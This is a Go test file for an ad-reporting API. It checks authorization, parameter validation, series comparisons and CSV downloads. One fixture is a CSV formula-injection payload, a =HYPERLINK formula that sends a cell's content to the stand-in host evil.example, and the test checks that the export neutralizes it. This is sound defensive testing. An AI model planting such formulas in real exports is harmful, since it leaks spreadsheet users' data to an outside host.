package reporting_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"net/http"
	"net/url"
	"strconv"
	"strings"
	"testing"

	"github.com/imaphub/imaphub/internal/app/apptest"
	"github.com/imaphub/imaphub/internal/demo"
	"github.com/imaphub/imaphub/internal/domain/assets"
	"github.com/imaphub/imaphub/internal/domain/campaigns"
	"github.com/imaphub/imaphub/internal/domain/reporting"
	"github.com/imaphub/imaphub/internal/platform/auth"
	"github.com/imaphub/imaphub/internal/platform/db"
	"github.com/imaphub/imaphub/internal/platform/db/dbtest"
)

// hostile is an asset text a spreadsheet would run as a formula.
const hostile = `=HYPERLINK("http://evil.example/?x="&A1,"Click, for ""more""")`

// reportEnv is the product over the demo account with a month of report
// data, one asset of it with a hostile text.
type reportEnv struct {
	*apptest.Env
	tree    campaigns.Tree
	hostile int64
}

func startReports(t *testing.T, d *db.DB) *reportEnv {
	t.Helper()
	ctx := context.Background()
	e := apptest.Start(t, d)
	if _, err := demo.Load(ctx, e.App.Campaigns, e.App.Assets); err != nil {
		t.Fatal(err)
	}
	tree, err := e.App.Campaigns.Tree(ctx, 1)
	if err != nil {
		t.Fatal(err)
	}
	a, _, err := e.App.Assets.CreateText(ctx, assets.TextInput{Text: hostile, Language: "de"})
	if err != nil {
		t.Fatal(err)
	}
	g := tree.AdGroups[0]
	ad := g.Ads[0]
	first := day(t, "2026-03-01")
	var facts []reporting.Fact
	for i := range 31 {
		d := first + reporting.Day(i)
		m := reporting.Metrics{Impressions: int64(100 + i), Clicks: int64(i), CostMicros: int64(i) * 500_000, Conversions: float64(i) / 10, ConversionsValue: float64(i) * 3}
		ours := reporting.Ours{CampaignID: tree.Campaign.ID, AdGroupID: g.ID, AdID: ad.ID}
		facts = append(facts,
			reporting.Fact{Level: reporting.LevelCampaign, Day: d, CampaignID: 77, Metrics: m, Ours: ours},
			reporting.Fact{Level: reporting.LevelAdGroup, Day: d, CampaignID: 77, AdGroupID: 78, Metrics: m, Ours: ours},
			reporting.Fact{Level: reporting.LevelAdAsset, Day: d, CampaignID: 77, AdGroupID: 78, AdID: 79, AssetID: 80, FieldType: "HEADLINE",
				PerformanceLabel: "BEST", Metrics: m, Ours: reporting.Ours{CampaignID: tree.Campaign.ID, AdGroupID: g.ID, AdID: ad.ID, AssetID: a.ID}},
			reporting.Fact{Level: reporting.LevelAdAsset, Day: d, CampaignID: 77, AdGroupID: 78, AdID: 79, AssetID: 81, FieldType: "HEADLINE",
				Metrics: m, Ours: reporting.Ours{CampaignID: tree.Campaign.ID, AdGroupID: g.ID, AdID: ad.ID, AssetID: ad.Headlines[0].AssetID}},
		)
	}
	im, err := e.App.Reports.NewImporter(customer, reporting.ImportOptions{Demo: true})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := im.Write(ctx, facts); err != nil {
		t.Fatal(err)
	}
	return &reportEnv{Env: e, tree: tree, hostile: a.ID}
}

func TestReportAPI(t *testing.T) {
	dbtest.Run(t, func(t *testing.T, d *db.DB) {
		e := startReports(t, d)
		camp := e.tree.Campaign.ID
		path := fmt.Sprintf("/api/campaigns/%d/report?from=2026-03-01&to=2026-03-31", camp)

		// Anonymous is refused; a viewer may read.
		if r := e.DoAs(t, auth.Anonymous, http.MethodGet, path, nil); r.Status != http.StatusUnauthorized {
			t.Errorf("anonymous: %d, want 401", r.Status)
		}
		r := e.DoAs(t, auth.Viewer, http.MethodGet, path+"&compare=previous", nil)
		if r.Status != http.StatusOK {
			t.Fatalf("viewer: %d %s", r.Status, r.Body)
		}
		// The contract: totals and series of points with a date at the top.
		body := r.Map(t)
		totals, ok := body["totals"].(map[string]any)
		if !ok {
			t.Fatalf("no totals: %s", r.Body)
		}
		for _, k := range []string{"impressions", "clicks", "cost_micros", "conversions", "conversions_value", "ctr", "average_cpc_micros",
			"conversion_rate", "cost_per_conversion_micros", "roas"} {
			if _, ok := totals[k]; !ok {
				t.Errorf("totals without %s", k)
			}
		}
		if got := totals["impressions"]; got != float64(31*100+465) {
			t.Errorf("total impressions %v", got)
		}
		series, _ := body["series"].([]any)
		if len(series) != 31 {
			t.Fatalf("%d points, want 31", len(series))
		}
		p0 := series[0].(map[string]any)
		if p0["date"] != "2026-03-01" || p0["clicks"] != float64(0) || p0["ctr"] != float64(0) || p0["average_cpc_micros"] != nil {
			t.Errorf("first point %v", p0)
		}
		if body["demo"] != true || body["currency"] != e.tree.Campaign.Currency || body["interval"] != "day" {
			t.Errorf("demo %v currency %v interval %v", body["demo"], body["currency"], body["interval"])
		}
		prev, _ := body["previous"].(map[string]any)
		if prev == nil || prev["from"] != "2026-01-29" || prev["to"] != "2026-02-28" {
			t.Errorf("previous %v", prev)
		}

		// Bad input is a 422 naming the parameter.
		for _, c := range []struct{ query, location string }{
			{"from=2026-02-30&to=2026-03-31", "query.from"},
			{"from=2026-03-01&to=01.04.2026", "query.to"},
			{"from=2026-03-31&to=2026-03-01", "query.to"},
			{"from=2020-01-01&to=2026-01-01", "query.to"},
			{"to=2026-03-01", "query.from"},
			{"from=2026-03-01&to=2026-03-31&interval=year", "query.interval"},
		} {
			r := e.DoAs(t, auth.Viewer, http.MethodGet, fmt.Sprintf("/api/campaigns/%d/report?%s", camp, c.query), nil)
			if r.Status != http.StatusUnprocessableEntity || !strings.Contains(string(r.Body), `"location":"`+c.location+`"`) {
				t.Errorf("%s: %d %s, want 422 at %s", c.query, r.Status, r.Body, c.location)
			}
		}
		if r := e.DoAs(t, auth.Viewer, http.MethodGet, "/api/campaigns/999999/report?from=2026-03-01&to=2026-03-31", nil); r.Status != http.StatusNotFound {
			t.Errorf("unknown campaign: %d", r.Status)
		}

		// Every table answers JSON to a viewer.
		for _, p := range []string{
			fmt.Sprintf("/api/campaigns/%d/report/rows?level=ad_group&from=2026-03-01&to=2026-03-31", camp),
			fmt.Sprintf("/api/campaigns/%d/report/assets?from=2026-03-01&to=2026-03-31&field_type=HEADLINE&order=worst&limit=5", camp),
			fmt.Sprintf("/api/assets/%d/report?from=2026-03-01&to=2026-03-31&interval=week", e.hostile),
			fmt.Sprintf("/api/reports/entities/ad_group/%d?from=2026-03-01&to=2026-03-31&interval=month", e.tree.AdGroups[0].ID),
			"/api/reports/campaigns?from=2026-03-01&to=2026-03-31&compare=previous&language=de",
			fmt.Sprintf("/api/reports/assets?from=2026-03-01&to=2026-03-31&ids=%d,%d", e.hostile, e.tree.AdGroups[0].Ads[0].Headlines[0].AssetID),
		} {
			r := e.DoAs(t, auth.Viewer, http.MethodGet, p, nil)
			if r.Status != http.StatusOK || !strings.HasPrefix(r.Header.Get("Content-Type"), "application/json") {
				t.Errorf("%s: %d %s %s", p, r.Status, r.Header.Get("Content-Type"), r.Body)
				continue
			}
			if strings.Contains(p, "/report/rows") || strings.Contains(p, "/reports/") && !strings.Contains(p, "entities") {
				var rows struct{ Rows []map[string]any }
				r.JSON(t, &rows)
				if len(rows.Rows) == 0 {
					t.Errorf("%s: no rows", p)
				}
			}
			if anon := e.DoAs(t, auth.Anonymous, http.MethodGet, p, nil); anon.Status != http.StatusUnauthorized {
				t.Errorf("%s anonymous: %d", p, anon.Status)
			}
		}
		for _, c := range []struct{ path, location string }{
			{"/api/reports/assets?from=2026-03-01&to=2026-03-31&ids=1,x", "query.ids"},
			{"/api/reports/assets?from=2026-03-01&to=2026-03-31&field_type=head%20line", "query.field_type"},
			{fmt.Sprintf("/api/campaigns/%d/report/rows?level=video&from=2026-03-01&to=2026-03-31", camp), "query.level"},
			{fmt.Sprintf("/api/campaigns/%d/report/assets?from=2026-03-01&to=2026-03-31&limit=0", camp), "query.limit"},
		} {
			r := e.DoAs(t, auth.Viewer, http.MethodGet, c.path, nil)
			if r.Status != http.StatusUnprocessableEntity || !strings.Contains(string(r.Body), `"location":"`+c.location+`"`) {
				t.Errorf("%s: %d %s, want 422 at %s", c.path, r.Status, r.Body, c.location)
			}
		}
	})
}

func TestReportCSVIsDefused(t *testing.T) {
	dbtest.Run(t, func(t *testing.T, d *db.DB) {
		e := startReports(t, d)
		camp := e.tree.Campaign.ID
		for _, p := range []string{
			fmt.Sprintf("/api/reports/assets?from=2026-03-01&to=2026-03-31&format=csv&campaign_id=%d", camp),
			fmt.Sprintf("/api/campaigns/%d/report/assets?from=2026-03-01&to=2026-03-31&format=csv", camp),
		} {
			r := e.DoAs(t, auth.Viewer, http.MethodGet, p, nil)
			if r.Status != http.StatusOK {
				t.Fatalf("%s: %d %s", p, r.Status, r.Body)
			}
			if ct := r.Header.Get("Content-Type"); ct != "text/csv; charset=utf-8" {
				t.Errorf("content type %q", ct)
			}
			if cd := r.Header.Get("Content-Disposition"); !strings.HasPrefix(cd, "attachment; filename=") || !strings.HasSuffix(cd, `.csv"`) {
				t.Errorf("content disposition %q", cd)
			}
			// RFC 4180: CRLF line ends, the quoted field read back intact.
			if !strings.Contains(string(r.Body), "\r\n") {
				t.Errorf("no CRLF line ends: %q", r.Body)
			}
			recs := readCSV(t, r.Body)
			if recs[0][0] != "asset_id" || recs[0][1] != "text" {
				t.Errorf("header %v", recs[0])
			}
			found := false
			for _, rec := range recs[1:] {
				if len(rec) != len(recs[0]) {
					t.Errorf("row of %d cells under a header of %d", len(rec), len(recs[0]))
				}
				if rec[0] == fmt.Sprint(e.hostile) {
					found = true
					if rec[1] != "'"+hostile {
						t.Errorf("hostile text written as %q", rec[1])
					}
				}
				for _, cell := range rec {
					if cell != "" && strings.ContainsRune("=+@\t\r", rune(cell[0])) {
						t.Errorf("a cell starts with a formula character: %q", cell)
					}
				}
			}
			if !found {
				t.Errorf("%s: the hostile asset is missing:\n%s", p, r.Body)
			}
			// The raw bytes quote the field and double its quotes.
			if want := `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click, for """"more"""""")"`; !strings.Contains(string(r.Body), want) {
				t.Errorf("raw CSV lacks %s:\n%s", want, r.Body)
			}
		}
		// The series and other tables download too.
		for _, p := range []string{
			fmt.Sprintf("/api/campaigns/%d/report?from=2026-03-01&to=2026-03-31&format=csv&compare=previous", camp),
			fmt.Sprintf("/api/campaigns/%d/report/rows?level=ad_group&from=2026-03-01&to=2026-03-31&format=csv", camp),
			fmt.Sprintf("/api/assets/%d/report?from=2026-03-01&to=2026-03-31&format=csv", e.hostile),
			"/api/reports/campaigns?from=2026-03-01&to=2026-03-31&format=csv&compare=previous",
		} {
			r := e.DoAs(t, auth.Viewer, http.MethodGet, p, nil)
			if r.Status != http.StatusOK {
				t.Errorf("%s: %d %s", p, r.Status, r.Body)
				continue
			}
			recs := readCSV(t, r.Body)
			if len(recs) < 2 {
				t.Errorf("%s: %d records\n%s", p, len(recs), r.Body)
				continue
			}
			u, _ := url.Parse(p)
			if strings.HasSuffix(u.Path, "/report") && strings.HasPrefix(u.Path, "/api/campaigns") && (len(recs) != 32 || recs[1][0] != "2026-03-01" || recs[0][11] != "previous_date") {
				t.Errorf("series CSV: %d rows, first %v, header %v", len(recs), recs[1], recs[0])
			}
		}
	})
}

// readCSV reads a report download: the byte order mark Excel needs, then
// RFC 4180 records.
func readCSV(t *testing.T, body []byte) [][]string {
	t.Helper()
	rest, ok := bytes.CutPrefix(body, []byte("\uFEFF"))
	if !ok {
		t.Fatalf("the CSV does not start with the UTF-8 byte order mark: %q", body[:min(len(body), 16)])
	}
	recs, err := csv.NewReader(bytes.NewReader(rest)).ReadAll()
	if err != nil {
		t.Fatalf("not CSV: %v\n%s", err, body)
	}
	return recs
}

// A comparison by month or week can split the two periods into different
// numbers of buckets: the CSV keeps every bucket of both, as the JSON does.
func TestComparisonCSVKeepsEveryBucket(t *testing.T) {
	dbtest.Run(t, func(t *testing.T, d *db.DB) {
		e := startReports(t, d)
		for _, q := range []string{
			// March; the 31 days before it: 29–31 January and February.
			"from=2026-03-01&to=2026-03-31&interval=month&compare=previous",
			// 1–9 March, Sunday to Monday: 3 weeks in part; 20–28 February, Friday to Saturday: 2.
			"from=2026-03-01&to=2026-03-09&interval=week&compare=previous",
		} {
			p := fmt.Sprintf("/api/campaigns/%d/report?%s", e.tree.Campaign.ID, q)
			var rep reporting.CampaignReport
			e.Must(t, http.StatusOK, http.MethodGet, p, nil).JSON(t, &rep)
			if rep.Previous == nil {
				t.Fatalf("%s: no previous period", q)
			}
			recs := readCSV(t, e.DoAs(t, auth.Viewer, http.MethodGet, p+"&format=csv", nil).Body)
			if len(rep.Series) == len(rep.Previous.Series) {
				t.Fatalf("%s: %d buckets both: the case is not tested", q, len(rep.Series))
			}
			if want := max(len(rep.Series), len(rep.Previous.Series)) + 1; len(recs) != want {
				t.Fatalf("%s: %d CSV records, want %d:\n%v", q, len(recs), want, recs)
			}
			col := map[string]int{}
			for i, h := range recs[0] {
				col[h] = i
			}
			check := func(series []reporting.Point, date, impressions string) {
				t.Helper()
				for i, r := range recs[1:] {
					if i >= len(series) {
						if r[col[date]] != "" || r[col[impressions]] != "" {
							t.Errorf("%s: row %d has %s %q with no bucket there", q, i+1, date, r[col[date]])
						}
						continue
					}
					if r[col[date]] != series[i].Date.String() || r[col[impressions]] != strconv.FormatInt(series[i].Impressions, 10) {
						t.Errorf("%s: row %d: %s %q %s %q, want %s %d", q, i+1, date, r[col[date]], impressions, r[col[impressions]], series[i].Date, series[i].Impressions)
					}
				}
			}
			check(rep.Series, "date", "impressions")
			check(rep.Previous.Series, "previous_date", "previous_impressions")
		}
	})
}
